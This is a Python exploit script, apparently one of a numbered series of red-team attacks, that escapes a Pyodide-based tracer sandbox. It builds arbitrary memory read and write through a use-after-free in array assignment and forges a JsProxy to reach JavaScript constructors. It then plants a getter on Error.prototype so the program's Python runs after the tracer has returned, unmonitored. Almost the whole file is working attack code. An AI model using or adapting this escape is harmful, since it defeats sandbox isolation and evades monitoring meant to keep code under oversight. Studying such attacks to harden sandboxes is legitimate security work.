# Attack 79: from attack 74's memory to Python run after the tracer's run has returned, through the
# error the worker's run failed with (atk-review2). Error.prototype is not frozen: a getter of the
# program's there, `pyodide_fatal_error`, is read by Pyodide's handle_js_error on every JavaScript
# error it catches. Said true once, the error (a TypeError of the program's own making) is thrown
# on through the interpreter, out of the tracer's run; said false after, Pyodide's fatal_error
# throws it on out of Engine.run, and the worker (worker-core.ts) described it: it read its
# `message`, which the getter had made a getter of the program's, once the tracer's run had
# returned and before the wipe. The program's Python ran there, untraced (what it wrote to the
# trace device no longer reached the host), and chose the words of the worker's `fatal`.
# Prints "armed: ..." once set up; "ESCAPED" shows in the worker's message (stderr) if it works.
import array, json, os, sys

try:

    ba = bytearray(64)


    def write32(addr, value):
        a = array.array("i", [0]) * (addr // 4 + 1)

        class Evil:
            def __index__(self):
                del a[:]
                return value if value < 2**31 else value - 2**32

        a[addr // 4] = Evil()


    for off, v in ((8, 0x7FFF0000), (12, 0x7FFF0000), (16, 0), (20, 0)):
        write32(id(ba) + off, v)
    mem = ba


    def r32(a):
        return int.from_bytes(mem[a:a + 4], "little")


    def w32(a, v):
        mem[a:a + 4] = (v & 0xFFFFFFFF).to_bytes(4, "little")


    def walk(c, seen):
        for s in type.__subclasses__(c):
            if s not in seen:
                seen.add(s)
                walk(s, seen)


    seen = set()
    walk(object, seen)
    JsProxy = min((c for c in seen if c.__name__ == "JsProxy"), key=id)
    kept = []


    def fake_proxy(ref):
        buf = bytearray(128)
        p = r32(id(buf) + 16)
        w32(p, 0x100000)
        w32(p + 4, id(JsProxy))
        w32(p + 36, ref)
        holder = [None]
        w32(r32(id(holder) + 12), p)
        kept.append(buf)
        return holder[0]


    Object = fake_proxy(12).constructor
    Function = Object.constructor
    Array = Object.values([True]).constructor
    bind_call = Function.prototype.call.bind
    try:
        Object.defineProperty(1, 2, 3)
    except Exception as error:
        TypeErrorJs = error.js_error.constructor
        Error = Object.getPrototypeOf(TypeErrorJs)


    def first(js_array):
        return Object.getOwnPropertyDescriptor(js_array, "0").value


    def proto_methods(pyvalue):
        holder = Object()
        holder.v = pyvalue
        return holder


    def pyproxy_method(pyvalue, name, depth=1):
        holder = Object()
        holder.v = pyvalue
        chain = Object.values(holder)
        for _ in range(depth):
            chain = chain.map(Object.getPrototypeOf)
        descs = chain.map(Object.getOwnPropertyDescriptors)
        return Object.getOwnPropertyDescriptor(first(descs), name).value.value


    def js_of(pyvalue):
        """The PyProxy JavaScript holds of pyvalue, as a JavaScript value (through an object's slot)."""
        holder = Object()
        holder.v = pyvalue
        return Object.values(holder)


    def capture_this(fn):
        """A JavaScript function that calls fn(this, *args)."""
        captureThis = pyproxy_method(lambda: None, "captureThis")
        return first(js_of(fn).map(bind_call(captureThis)))
except Exception as error:
    print("blocked: the set-up,", type(error).__name__, str(error).split("\n")[0][:120])
    sys.exit(0)


def js_functions(*fns):
    """A JavaScript array of functions, each calling fn(this, *args) (made and kept JavaScript-side)."""
    holder = Object()
    for i, fn in enumerate(fns):
        setattr(holder, "f%d" % i, fn)
    return Object.values(holder).map(bind_call(pyproxy_method(lambda: None, "captureThis")))


def accessor(functions, get_index, set_index=None):
    """A property descriptor: get (and set) the functions at those indexes, configurable."""
    d = Object()
    Object.defineProperty(d, "get", Object.getOwnPropertyDescriptor(functions, str(get_index)))
    if set_index is not None:
        Object.defineProperty(d, "set", Object.getOwnPropertyDescriptor(functions, str(set_index)))
    Object.defineProperty(d, "configurable", Object.getOwnPropertyDescriptor(Array.of(True), "0"))
    return d


state = {"armed": False, "flag_reads": 0, "message_reads": 0}


def fatal_flag(this, *rest, state=state, Object=Object):
    # Read by Pyodide's handle_js_error (true: the error is thrown on, out of the tracer's run),
    # then by its fatal_error (false: it goes on, and throws the error out of Engine.run).
    if not state["armed"]:
        return None
    state["flag_reads"] += 1
    if state["flag_reads"] == 1:
        Object.defineProperty(this, "message", state["message"])
        return True
    return False


def flag_set(this, *rest):
    return None  # fatal_error sets it: taken, and forgotten


def message(this, *rest, state=state):
    state["message_reads"] += 1
    # Read inside the tracer's run first (V8 formatting the error's stack, Pyodide's fatal_error);
    # after those, only once the tracer's run has returned (the worker describing what it threw).
    if state["message_reads"] <= 2:
        return "the program's error"
    return "ESCAPED: Python ran after the tracer's run had returned, untraced (read %d)" % state["message_reads"]


try:
    functions = js_functions(fatal_flag, flag_set, message)
    state["message"] = accessor(functions, 2)
    Object.defineProperty(Error.prototype, "pyodide_fatal_error", accessor(functions, 0, 1))
    print("armed: Error.prototype.pyodide_fatal_error is the program's")
except Exception as error:
    print("blocked: Error.prototype.pyodide_fatal_error,", type(error).__name__, str(error).split("\n")[0][:120])
    sys.exit(0)

state["armed"] = True
try:
    Object.defineProperty(1, 2, 3)  # a TypeError, which Pyodide's handle_js_error now throws on
    print("blocked: the error was not thrown on, out of the tracer's run")
except Exception as error:
    print("blocked: the error came back to Python,", type(error).__name__)
